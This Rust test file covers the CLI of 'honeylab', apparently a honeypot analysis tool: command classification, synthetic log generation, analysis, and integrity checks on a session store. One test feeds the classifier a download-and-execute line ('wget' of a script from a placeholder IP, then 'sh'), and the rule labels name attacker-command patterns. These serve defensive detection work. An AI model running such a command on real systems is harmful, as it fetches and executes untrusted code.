//! End-to-end tests of the `honeylab` CLI binary.

use std::io::Write;
use std::process::{Command, Stdio};

fn honeylab() -> Command {
    Command::new(env!("CARGO_BIN_EXE_honeylab"))
}

#[test]
fn usage_on_no_args() {
    let out = honeylab().output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("usage:"), "{err}");
}

#[test]
fn table1_prints_all_rules() {
    let out = honeylab().arg("table1").output().expect("binary runs");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    for label in [
        "mdrfckr",
        "curl_maxred",
        "gen_curl_echo_ftp_wget",
        "unknown",
    ] {
        assert!(text.contains(label), "missing {label}");
    }
    // 58 rules + header + fallback line.
    assert!(text.lines().count() >= 60);
}

#[test]
fn classify_reads_stdin() {
    let mut child = honeylab()
        .arg("classify")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("binary runs");
    child
        .stdin
        .as_mut()
        .unwrap()
        .write_all(b"cd /tmp; wget http://1.2.3.4/x.sh; sh x.sh\nuname -a\nzzz unknown zzz\n")
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].starts_with("gen_wget"), "{}", lines[0]);
    assert!(lines[1].starts_with("uname_a"), "{}", lines[1]);
    assert!(lines[2].starts_with("unknown"), "{}", lines[2]);
}

#[test]
fn generate_then_analyze_roundtrip() {
    let dir = std::env::temp_dir().join("honeylab-cli-test");
    std::fs::create_dir_all(&dir).unwrap();
    let log = dir.join("hlab-test.json");
    let out = honeylab()
        .args([
            "generate",
            "--scale",
            "60000",
            "--seed",
            "5",
            "--out",
            log.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(log.exists());

    let out = honeylab()
        .arg("analyze")
        .arg(&log)
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Dataset statistics"));
    assert!(text.contains("Table 1 coverage"));
    assert!(text.contains("top command categories"));
    assert!(
        text.contains("echo_OK"),
        "dominant scout should appear:\n{text}"
    );
    std::fs::remove_file(&log).ok();
}

#[test]
fn degraded_generate_then_lossy_analyze() {
    let dir = std::env::temp_dir().join("honeylab-cli-test");
    std::fs::create_dir_all(&dir).unwrap();
    let log = dir.join("hlab-degraded.json");
    let out = honeylab()
        .args([
            "generate",
            "--scale",
            "60000",
            "--seed",
            "9",
            "--downtime",
            "0.12",
            "--flush-fail",
            "0.01",
            "--corrupt",
            "0.01",
            "--out",
            log.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("degraded run:"),
        "accounting line printed:\n{err}"
    );
    assert!(err.contains("connection failures"), "{err}");
    assert!(err.contains("corrupted"), "{err}");

    // The analyzer recovers the parseable sessions instead of aborting.
    let out = honeylab()
        .arg("analyze")
        .arg(&log)
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("recovered"), "lossy import reported:\n{err}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Dataset statistics"));
    std::fs::remove_file(&log).ok();
}

#[test]
fn sessiondb_generate_then_analyze_roundtrip() {
    let dir = std::env::temp_dir().join("honeylab-cli-test");
    std::fs::create_dir_all(&dir).unwrap();
    let store = dir.join("hlab-test.hsdb");
    std::fs::remove_dir_all(&store).ok();
    let out = honeylab()
        .args([
            "generate",
            "--scale",
            "60000",
            "--seed",
            "5",
            "--out-format",
            "sessiondb",
            "--out",
            store.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("wrote sessiondb store"), "{err}");
    assert!(store.join("MANIFEST").exists());

    // analyze auto-detects the store and streams it.
    let out = honeylab()
        .arg("analyze")
        .arg(&store)
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("sessiondb store:"),
        "auto-detection reported:\n{err}"
    );
    assert!(
        err.contains("validated"),
        "up-front CRC pass reported:\n{err}"
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Dataset statistics"));
    assert!(text.contains("Table 1 coverage"));
    std::fs::remove_dir_all(&store).ok();
}

#[test]
fn analyze_rejects_corrupt_store() {
    let dir = std::env::temp_dir().join("honeylab-cli-test");
    std::fs::create_dir_all(&dir).unwrap();
    let store = dir.join("hlab-corrupt.hsdb");
    std::fs::remove_dir_all(&store).ok();
    let out = honeylab()
        .args([
            "generate",
            "--scale",
            "60000",
            "--out-format",
            "sessiondb",
            "--out",
            store.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Flip one byte in the middle of the first segment: the validation
    // pass must fail with a structured error, not a panic.
    let seg = store.join("seg-000000.hsdb");
    let mut bytes = std::fs::read(&seg).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x10;
    std::fs::write(&seg, &bytes).unwrap();

    let out = honeylab()
        .arg("analyze")
        .arg(&store)
        .output()
        .expect("binary runs");
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("error scanning"), "{err}");
    std::fs::remove_dir_all(&store).ok();
}

#[test]
fn recover_checks_every_crc_of_a_store() {
    let dir = std::env::temp_dir().join("honeylab-cli-test");
    std::fs::create_dir_all(&dir).unwrap();
    let store = dir.join("hlab-recover.hsdb");
    std::fs::remove_dir_all(&store).ok();
    let out = honeylab()
        .args([
            "generate",
            "--scale",
            "60000",
            "--out-format",
            "sessiondb",
            "--out",
            store.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    // "N sessions in K segments", as the writer counted them.
    let counts = err
        .lines()
        .find_map(|l| l.strip_prefix("wrote sessiondb store "))
        .and_then(|l| l.rsplit_once(": "))
        .map(|(_, counts)| counts.to_string())
        .unwrap_or_else(|| panic!("generate reported:\n{err}"));

    let out = honeylab()
        .arg("recover")
        .arg(&store)
        .output()
        .expect("binary runs");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(
        err.contains(&format!("store: {counts}, CRCs intact")),
        "{err}"
    );

    // One flipped byte in a sealed segment fails the check.
    let seg = store.join("seg-000000.hsdb");
    let mut bytes = std::fs::read(&seg).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x10;
    std::fs::write(&seg, &bytes).unwrap();
    let out = honeylab()
        .arg("recover")
        .arg(&store)
        .output()
        .expect("binary runs");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("fails CRC verification"), "{err}");
    std::fs::remove_dir_all(&store).ok();
}

#[test]
fn generate_rejects_unknown_format() {
    let out = honeylab()
        .args(["generate", "--scale", "60000", "--out-format", "parquet"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("unknown --out-format"), "{err}");
}

#[test]
fn analyze_rejects_garbage() {
    let dir = std::env::temp_dir().join("honeylab-cli-test");
    std::fs::create_dir_all(&dir).unwrap();
    let bad = dir.join("bad.json");
    std::fs::write(&bad, "this is not json\n").unwrap();
    let out = honeylab()
        .arg("analyze")
        .arg(&bad)
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(1));
    std::fs::remove_file(&bad).ok();
}

#[test]
fn analyze_rejects_removed_report_aliases() {
    let out = honeylab()
        .args(["analyze", "x", "--taxonomy"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("unknown analyze option '--taxonomy'"), "{err}");
}

#[test]
fn serve_rejects_an_invalid_config() {
    // Stdin is closed, so a server that wrongly started would drain and
    // exit 0 rather than hang the test.
    for flags in [
        ["--ssh-port", "0", "--workers", "0"],
        ["--ssh-port", "2400", "--http-port", "2400"],
    ] {
        let out = honeylab()
            .arg("serve")
            .args(flags)
            .stdin(Stdio::null())
            .output()
            .expect("binary runs");
        assert_eq!(out.status.code(), Some(2), "{flags:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("invalid serve configuration"), "{err}");
        assert!(!err.contains("listening"), "bound before validating: {err}");
    }
}
